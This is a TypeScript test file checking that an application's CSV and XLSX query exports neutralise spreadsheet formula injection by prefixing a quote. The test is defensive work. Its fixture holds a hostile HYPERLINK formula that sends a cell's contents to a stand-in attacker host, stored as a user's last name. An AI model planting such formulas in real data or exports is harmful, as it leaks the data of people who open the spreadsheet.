import { users } from '@licensure/db';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Caller, createTestContext, type TestContext } from '../../test/test-app';

/** A person's own data that a spreadsheet would run as a formula comes out of an export as text. */
let t: TestContext;
let builder: Caller;
const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

beforeAll(async () => {
  t = await createTestContext();
  builder = await t.createCaller(['queries.read', 'queries.write', 'users.read']);
  await t.database.db.insert(users).values({
    enterprise_id: t.enterpriseId,
    last_name: formula,
    first_name: 'Injectia',
    middle_name: '@SUM(1)',
  });
}, 60_000);
afterAll(async () => t?.close());

describe('query exports', () => {
  it('neutralise formula cells in CSV and XLSX with a leading quote', async () => {
    const saved = await t.call(builder, {
      method: 'POST',
      url: '/api/queries/save',
      payload: {
        query: {
          name: 'Injected',
          subject: 'people',
          query_column_values: [
            { field: 'people.last_name', sort_order: 0, label: '-Last' },
            { field: 'people.first_name', sort_order: 1 },
          ],
          query_filter_values: [{ field: 'people.first_name', operator: '=', value: 'Injectia' }],
        },
      },
    });
    expect(saved.statusCode, saved.body).toBe(200);
    const id = saved.json().id as string;

    const csv = await t.call(builder, { method: 'GET', url: `/api/queries/export/${id}?format=csv` });
    expect(csv.statusCode).toBe(200);
    expect(csv.body.trim().split('\r\n')).toEqual([
      "'-Last,First name",
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Injectia`,
    ]);

    const xlsx = await t.call(builder, { method: 'GET', url: `/api/queries/export/${id}?format=xlsx` });
    expect(xlsx.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('Results')!;
    expect(sheet.getRow(1).getCell(1).value).toBe("'-Last");
    expect(sheet.getRow(2).getCell(1).value).toBe(`'${formula}`);
    expect(sheet.getRow(2).getCell(1).formula).toBeUndefined();
    expect(sheet.getRow(2).getCell(2).value).toBe('Injectia');
  });
});
